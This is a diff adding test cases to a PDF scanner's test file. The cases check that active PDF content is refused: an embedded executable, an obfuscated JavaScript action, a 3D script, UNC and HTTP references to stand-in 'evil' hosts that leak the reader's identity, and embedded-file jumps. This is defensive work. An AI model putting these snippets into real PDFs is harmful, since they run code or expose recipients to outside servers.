@@ -44,3 +44,19 @@ test.each([
 ])('a letter with %s is taken', (_, head) => {
   expect(findPdfRefusal(withStream(head, packed('5 0 <</A 1>>'), OUTLINE))).toBeNull();
 });
+
+test.each([
+  ['a program on a paper clip', '<</Subtype/FileAttachment/FS<</F(x.exe)/EF<</F 5 0 R>>>>>>'],
+  ['a file that belongs to a page', '<</Type/Page/AF[<</UF(x.exe)/EF <</F 5 0 R>>>>]>>'],
+  ['a script of a film', '<</A<</S/Rendit#69on/OP 0/JS(app.alert(1))>>>>'],
+  ['a script of a model', '<</Subtype/3D/3DD<</Subtype/U3D/OnInstantiate 9 0 R>>>>'],
+  ['a page elsewhere, which tells that server who reads', '<</OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x)/D[0/Fit]>>>>'],
+  ['a page within a file that it carries', '<</A<</S/GoToE/T<</R/C/N(x)>>>>>>'],
+  ['a thread elsewhere', '<</A<</S/Thread/F(\\\\\\\\evil\\\\x)>>>>'],
+  ['a film elsewhere', '<</Subtype/Movie/Movie<</F(http://evil.example/x)>>>>'],
+])('%s is refused, also packed', (_, object) => {
+  const plain = Buffer.from(`%PDF-1.7\n1 0 obj\n${object}\nendobj\nstartxref\n0\n%%EOF\n`, 'latin1');
+  const head = `<</Type/ObjStm/N 1/First 4${FLATE}>>`;
+  const stream = deflateSync(Buffer.from(`5 0 ${object}`, 'latin1'));
+  expect([findPdfRefusal(plain), findPdfRefusal(withStream(head, stream))]).toEqual(['active-pdf', 'active-pdf']);
+});
